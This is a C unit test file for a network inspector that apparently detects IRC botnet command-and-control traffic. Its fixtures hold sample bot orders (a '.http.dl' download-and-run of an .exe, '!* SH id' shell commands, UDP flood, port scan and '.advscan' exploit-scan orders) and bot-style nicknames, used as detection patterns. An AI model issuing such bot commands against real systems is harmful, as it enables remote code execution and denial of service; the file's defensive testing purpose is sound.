/*
 * unit/inspect/test_irc.c - chat, and programs that are led by it.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "../../../src/inspect/irc/orders.h"
#include "support/dialog.h"

extern const struct inspector irc_inspector;

static struct harness h;

static int set_up(void **state)
{
	(void)state;
	harness_init(&h, &irc_inspector, PROTO_TCP, 40000, 6667);
	return 0;
}

static int tear_down(void **state)
{
	(void)state;
	harness_deinit(&h);
	return 0;
}

static const struct turn bot[] = {
	C("PASS x\r\nNICK USA|XP|48213\r\nUSER a b c :d\r\n"),
	S(":x 001 USA|XP|48213 :\r\n:x 332 USA|XP|48213 #a :.advscan lsass 100 5 0 -r -s\r\n"
	  ":x 366 USA|XP|48213 #a :End\r\n"),
	C("JOIN #a key\r\n"),
	S("@t=1 :m!m@h PRIVMSG #a :.sh id\r\nPING :1\r\n"),
	C("PONG :1\r\nPRIVMSG #a :uid=0(root) gid=0(root)\r\n"),
};
static const struct turn people[] = {
	S("NOTICE AUTH :*** Looking up your hostname\r\n"),
	C("NICK marta\nUSER marta 0 * :Marta\n"),
	S(":irc.example 001 marta :Welcome\r\n:irc.example 002 marta :Your host\r\n"
	  ":irc.example 375 marta :-\r\n:irc.example 376 marta :End\r\n"),
	C("JOIN #dev\n"),
	S(":marta!m@h JOIN #dev\r\n:irc.example 332 marta #dev :Release 2.0 is out, see http://a/b\r\n"
	  ":irc.example 366 marta #dev :End\r\n:bob!b@h PRIVMSG #dev :!title http://a.example/b\r\n"),
	C("PRIVMSG #dev :$ make\n"),
};

static const struct event_chat *chat(unsigned n)
{
	const struct event_chat *e = harness_event(&h, EVENT_CHAT, n);
	assert_non_null(e);
	return e;
}

static void a_bot_and_its_orders(void **state)
{
	(void)state;
	assert_true(harness_probe(&h, true, bot[0].data, bot[0].len));
	dialog_whole(&h, bot, DIALOG_COUNT(bot));
	unsigned last = harness_count(&h, EVENT_CHAT) - 1;
	const struct event_chat *e = chat(last);
	assert_int_equal(e->marks, CHAT_ORDER | CHAT_TOPIC | CHAT_OUTPUT | CHAT_MADE_NAME |
					   CHAT_BARE | CHAT_KEYED);
	assert_int_equal(e->orders, 2);
	assert_int_equal(e->obeyed, 1);
	assert_int_equal(e->is_end, 1);
	assert_true(harness_str_is(e, &e->nick, "USA|XP|48213"));
	assert_true(harness_str_is(e, &e->channel, "#a"));
	assert_true(harness_str_is(e, &e->order, ".advscan lsass 100 5 0 -r -s"));
	dialog_prefixes(&h, bot, DIALOG_COUNT(bot));
}

static void people_chat(void **state)
{
	(void)state;
	assert_true(harness_probe(&h, false, people[0].data, people[0].len));
	dialog_whole(&h, people, DIALOG_COUNT(people));
	assert_int_equal(harness_count(&h, EVENT_CHAT), 2);
	assert_int_equal(chat(1)->marks, 0);
	assert_int_equal(chat(1)->said[0], 1);
	assert_int_equal(chat(1)->said[1], 1);
	dialog_prefixes(&h, people, DIALOG_COUNT(people));
}

static bool probes(bool from_client, const char *text)
{
	return harness_probe(&h, from_client, text, strlen(text));
}

static void other_protocols(void **state)
{
	(void)state;
	assert_false(probes(true, "USER anonymous\r\n"));
	assert_false(probes(true, "PASS secret\r\n"));
	assert_false(probes(true, "GET / HTTP/1.1\r\n"));
	assert_false(probes(true, "NOOP\r\n"));
	assert_false(probes(false, "220 ftp ready\r\n"));
	assert_false(probes(false, ":)\r\n"));
	assert_true(probes(true, "CAP LS 302\r\n"));
	assert_true(probes(true, "  NICK a\r\n"));
	assert_true(probes(false, ":a.b 001 c :Hi\r\n"));
}

static void strange_lines_end_it(void **state)
{
	(void)state;
	harness_stream(&h, true, "NICK a\r\n", 8);
	for (unsigned i = 0; i < 8; i++)
		harness_stream(&h, true, "bytes of another kind\r\n", 23);
	assert_int_equal(h.verdict, INSPECT_MORE);
	harness_stream(&h, true, "bytes of another kind\r\n", 23);
	assert_int_equal(h.verdict, INSPECT_DONE);
	harness_restart(&h);
	harness_stream(&h, true, "bytes of another kind\r\n", 23);
	assert_int_equal(h.verdict, INSPECT_NOT_MINE);
}

static struct line line_of(const char *text)
{
	return (struct line){ (const uint8_t *)text, (uint32_t)strlen(text) };
}

static bool orders(const char *text, bool is_direct)
{
	struct line l = line_of(text);
	return irc_is_order(&l, is_direct);
}

static void what_is_an_order(void **state)
{
	(void)state;
	assert_true(orders(".advscan asn1smb 75 5 0 -r -s", false));
	assert_true(orders("\0034,1 .http.dl http://a.example/x.exe c:\\x.exe 1", false));
	assert_true(orders("!* UDP 192.0.2.1 80 60", false));
	assert_true(orders("!u @udpflood 192.0.2.1 80 60", false));
	assert_true(orders("!* SH id", false));
	assert_true(orders("@portscan 192.0.2.0/24", false));
	assert_true(orders("download http://a.example/x.exe", true));
	assert_true(orders(".scan 10.x.x.x", false));
	assert_false(orders("download http://a.example/x.exe", false));
	assert_false(orders("!title http://a.example/b", false));
	assert_false(orders("!weather Madrid", false));
	assert_false(orders("scan 192.0.2.1 for me", false));
	assert_false(orders("!update", false));
	assert_false(orders("!quote add 12 30", false));
	assert_false(orders("update: fixed in 1.2.3", false));
	assert_false(orders("...", false));
	assert_false(orders("", false));
}

static void what_is_a_made_name(void **state)
{
	static const char *const made[] = { "USA|XP|48213",     "[DEU]8342561", "n|W7|a1b2c3",
					    "[00|FRA|XP|4821]", "x86|qzkrt",    "{LNX}77120" };
	static const char *const chosen[] = { "marta_1984",  "Guest48213", "bob",
					      "[FR]Paul",    "ABC_1234",   "x86",
					      "mibbit|1234", "",           "|" };
	(void)state;
	for (size_t i = 0; i < sizeof(made) / sizeof(made[0]); i++) {
		struct line l = line_of(made[i]);
		assert_true(irc_is_made_name(&l));
	}
	for (size_t i = 0; i < sizeof(chosen) / sizeof(chosen[0]); i++) {
		struct line l = line_of(chosen[i]);
		assert_false(irc_is_made_name(&l));
	}
}

static void what_is_coded(void **state)
{
	struct line coded = line_of("kQ3vB9xZ2mT7aL5pR8sD1wE6"),
		    words = line_of("Welcome to the channel"),
		    one = line_of("supercalifragilisticexpialidocious");
	(void)state;
	assert_true(irc_is_coded(&coded));
	assert_false(irc_is_coded(&words));
	assert_false(irc_is_coded(&one));
}

int main(void)
{
#define T(name) cmocka_unit_test_setup_teardown(name, set_up, tear_down)
	const struct CMUnitTest tests[] = {
		T(a_bot_and_its_orders), T(people_chat),      T(other_protocols),
		T(strange_lines_end_it), T(what_is_an_order), T(what_is_a_made_name),
		T(what_is_coded),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
